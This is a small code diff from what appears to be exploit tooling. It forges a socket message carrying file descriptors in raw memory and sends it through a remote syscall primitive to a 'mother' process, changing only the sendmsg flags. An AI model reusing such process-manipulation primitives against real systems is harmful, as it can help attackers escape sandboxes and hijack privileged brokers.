@@ -71,7 +71,7 @@ class Taken:
         self.put(0x300, struct.pack("<QQ", PAGE + 0x200, 4))
         self.put(0x500, struct.pack("<QiiiiiI", 28, 1, 1, memory, ours, ours, 0))
         self.put(0x400, struct.pack("<QIIQQQQI", 0, 0, 0, PAGE + 0x300, 1, PAGE + 0x500, 32, 0))
-        assert self.s.call("sendmsg", self.mother_fd, PAGE + 0x400, 0x40) == 4
+        assert self.s.call("sendmsg", self.mother_fd, PAGE + 0x400, 0x4040) == 4
 
     def brokers(self):
         return _children(self.mother)
